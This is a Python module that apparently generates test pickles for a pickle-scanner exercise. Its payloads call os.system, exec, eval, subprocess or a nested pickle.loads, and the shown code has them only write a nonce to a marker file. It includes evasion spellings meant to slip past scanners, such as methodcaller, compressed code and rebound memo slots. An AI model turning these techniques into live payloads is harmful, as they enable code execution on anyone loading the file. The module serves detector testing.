"""Pickles of known content: hostile ones from families of payloads, honest ones from a pool of ordinary objects.

A payload is an expression of names and calls, so what it reaches is known before a byte is written; `Writer` spells it
out in one of many ways that Python reads alike. Payloads are harmless: when one runs, it appends its nonce, a line of
hex, to the file that the environment variable MLSECOPS_MARKER names, and does nothing else.
"""

from __future__ import annotations

import importlib
import os
import shlex
import struct
import sys
import zlib
from dataclasses import dataclass

from classroom.exchange.marker import MARKER


@dataclass(frozen=True)
class Name:
    """A global: `module` and attribute `name`, which may be dotted from protocol 4 on."""

    module: str
    name: str

    def __str__(self) -> str:
        return f"{self.module}:{self.name}"


class Call:
    """`function(*arguments)`, of which any may be a name or a call."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments


# --- payloads -------------------------------------------------------------------------------------------------------


def _marker() -> str | None:
    # A grading knows where the marker is and writes it into the payload: who empties the environment changes nothing.
    return os.environ.get(MARKER)


def shell_payload(nonce: str) -> str:
    if sys.platform == "win32":
        return f'echo {nonce}>>"{_marker() or f"%{MARKER}%"}"'
    return f"echo {nonce} >> {shlex.quote(known)}" if (known := _marker()) else f'echo {nonce} >> "${MARKER}"'


def python_payload(nonce: str) -> str:
    path = repr(known) if (known := _marker()) else f"__import__('os').environ['{MARKER}']"
    return f"open({path}, 'a').write('{nonce}\\n')"


def _os(r):
    return Name(r.choice(["os", "nt" if sys.platform == "win32" else "posix"]), "system")


def _import_os():
    return Call(Name("importlib", "import_module"), "os")


def _second_stage(r, n):
    inner = Writer(2).stream(Call(Name("builtins", "exec"), python_payload(n)))
    return Call(Name(r.choice(["pickle", "_pickle"]), "loads"), inner)


def _write_without_code(r, n):
    # The marker is opened and written to by three innocent calls: there is neither code nor a command in the stream.
    where = _marker() or (f"%{MARKER}%" if sys.platform == "win32" else f"${MARKER}")
    path = Call(Name("os.path", "expandvars"), where)
    return Call(Call(Name("builtins", "getattr"), Call(Name("io", "open"), path, "a"), "write"), n + "\n")


# Family to expression; those that need a special spelling are in `SPELLED`.
SEEN = {
    "system": lambda r, n: Call(_os(r), shell_payload(n)),
    "exec": lambda r, n: Call(Name("builtins", "exec"), python_payload(n)),
    "eval": lambda r, n: Call(Name("builtins", "eval"), python_payload(n)),
    "subprocess": lambda r, n: Call(Name("subprocess", "getoutput"), shell_payload(n)),
    "getattr": lambda r, n: Call(Call(Name("builtins", "getattr"), _import_os(), "system"), shell_payload(n)),
    "second stage": _second_stage,
}
HELD_BACK = {
    "methodcaller": lambda r, n: Call(Call(Name("operator", "methodcaller"), "system", shell_payload(n)), _import_os()),
    "attrgetter": lambda r, n: Call(
        Call(Call(Name("operator", "attrgetter"), "system"), _import_os()), shell_payload(n)
    ),
    "partial": lambda r, n: Call(Call(Name("functools", "partial"), _os(r), shell_payload(n))),
    "lazy map": lambda r, n: Call(Name("builtins", "list"), Call(Name("builtins", "map"), _os(r), [shell_payload(n)])),
    "compressed code": lambda r, n: Call(
        Name("builtins", "exec"), Call(Name("zlib", "decompress"), zlib.compress(python_payload(n).encode()))
    ),
    "no code at all": _write_without_code,
    "stopwatch": lambda r, n: Call(
        Name("timeit", "timeit"), python_payload(n), "pass", Name("timeit", "default_timer"), 1
    ),
}
# The allowed neighbor's module reaches the system through what it imports itself; needs dotted names, so protocol 4.
NEIGHBORS = {"uuid:UUID": Name("uuid", "os.system"), "random:Random": Name("random", "_os.system")}


def names_of(expression) -> list[Name]:
    """Every name in an expression, in the order in which it is reached."""
    if isinstance(expression, Name):
        return [expression]
    if isinstance(expression, Call):
        return [name for part in (expression.function, *expression.arguments) for name in names_of(part)]
    if isinstance(expression, list | tuple):
        return [name for part in expression for name in names_of(part)]
    if isinstance(expression, dict):
        return [name for pair in expression.items() for name in names_of(pair)]
    return []


class Live:
    """A call as an object, for pickling by a library: its pickle makes the call when it is loaded."""

    def __init__(self, call: Call):
        self.function = _live(call.function)
        self.arguments = tuple(map(_live, call.arguments))

    def __reduce__(self):
        return self.function, self.arguments

    def __call__(self):  # never called: the pickler only asks whether it could be
        raise NotImplementedError


def _live(part):
    if isinstance(part, Name):
        return getattr(importlib.import_module(part.module), part.name)
    if isinstance(part, Call):
        return Live(part)
    return [_live(item) for item in part] if isinstance(part, list) else part


# --- spelling -------------------------------------------------------------------------------------------------------


class Writer:
    """Writes pickles opcode by opcode.

    Args:
        protocol: 0 to 5; which opcodes are used, and what the stream says of itself.
        names: `"global"` (module and name in the opcode), `"stack"` (two strings on the stack), `"memo"` (the strings
            lie in the memo since long before), `"rebound"` (the same, after the memo held something else there).
        calls: `"reduce"`, `"inst"` or `"obj"`: three opcodes that call.
        strings: `"plain"`, or `"wide"` for the eight-byte length, or `"old"` for Python 2's quoted strings.
        dressed: put texts into the memo and, from protocol 4 on, everything into a frame, as Python's pickler does.
    """

    def __init__(
        self, protocol: int, names: str = "", calls: str = "reduce", strings: str = "plain", *, dressed: bool = False
    ):
        self.protocol, self.calls, self.strings = protocol, calls, strings
        self.names = names or ("stack" if protocol >= 4 else "global")
        self.dressed = dressed and protocol >= 2 and self.names not in ("memo", "rebound")

    def stream(self, value, dropped=None) -> bytes:
        """A whole pickle of `value`, which may hold names and calls anywhere.

        Args:
            dropped: made before it and thrown away, so that what is loaded shows no trace of it.
        """
        head = bytes([0x80, self.protocol]) if self.protocol >= 2 else b""
        self.slots, self.put = {}, 0
        opening = self._memo(names_of([dropped, value])) if self.names in ("memo", "rebound") else b""
        opening += b"" if dropped is None else self.push(dropped) + b"0"
        body = opening + self.push(value) + b"."
        frame = b"\x95" + struct.pack("<Q", len(body)) if self.dressed and self.protocol >= 4 else b""
        return head + frame + body

    def push(self, value) -> bytes:
        """Opcodes that leave `value` on the stack."""
        if isinstance(value, Name):
            return self._name(value)
        if isinstance(value, Call):
            return self._call(value)
        if value is None:
            return b"N"
        if isinstance(value, str):
            return self._text(value)
        if isinstance(value, bytes):
            return b"B" + struct.pack("<I", len(value)) + value
        if isinstance(value, int):
            return b"I%d\n" % value if self.protocol == 0 else b"J" + struct.pack("<i", value)
        if isinstance(value, float):
            return b"F%r\n" % value if self.protocol == 0 else b"G" + struct.pack(">d", value)
        if isinstance(value, list):
            return b"(" + b"".join(map(self.push, value)) + b"l"
        if isinstance(value, tuple):
            return b"(" + b"".join(map(self.push, value)) + b"t"
        return b"(" + b"".join(self.push(key) + self.push(item) for key, item in value.items()) + b"d"

    def _text(self, text: str) -> bytes:
        return self._bare_text(text) + (self._put() if self.dressed else b"")

    def _put(self) -> bytes:
        self.put += 1
        return b"\x94" if self.protocol >= 4 else b"r" + struct.pack("<I", self.put - 1)

    def _bare_text(self, text: str) -> bytes:
        data = text.encode()
        if self.strings == "wide":
            return b"\x8d" + struct.pack("<Q", len(data)) + data
        if self.strings == "old":
            return b"S" + repr(text).encode() + b"\n"
        if self.protocol == 0:
            return b"V" + text.replace("\\", "\\u005c").replace("\n", "\\u000a").encode() + b"\n"
        return (
            b"\x8c" + bytes([len(data)]) + data
            if self.protocol >= 4 and len(data) < 256
            else (b"X" + struct.pack("<I", len(data)) + data)
        )

    def _name(self, name: Name) -> bytes:
        if self.names == "global":
            return f"c{name.module}\n{name.name}\n".encode()
        if self.names == "stack":
            return self._text(name.module) + self._text(name.name) + b"\x93"
        return b"h" + bytes([self.slots[name.module]]) + b"h" + bytes([self.slots[name.name]]) + b"\x93"

    def _call(self, call: Call) -> bytes:
        arguments = b"".join(map(self.push, call.arguments))
        if self.calls == "inst" and isinstance(call.function, Name):
            return b"(" + arguments + f"i{call.function.module}\n{call.function.name}\n".encode()
        if self.calls == "obj":
            return b"(" + self.push(call.function) + arguments + b"o"
        return self.push(call.function) + b"(" + arguments + b"tR"

    def _memo(self, names) -> bytes:
        # Names before modules: whoever takes the last two strings takes them the wrong way round.
        texts = dict.fromkeys(text for name in names for text in (name.name, name.module))
        self.slots = {text: 7 * number + 3 for number, text in enumerate(texts)}
        opening = b""
        if self.names == "rebound":
            for text, slot in self.slots.items():
                opening += self._text("collections" if "." not in text else "layer") + b"q" + bytes([slot]) + b"0"
        for text, slot in self.slots.items():
            opening += self._text(text) + b"q" + bytes([slot]) + b"0"
        return opening
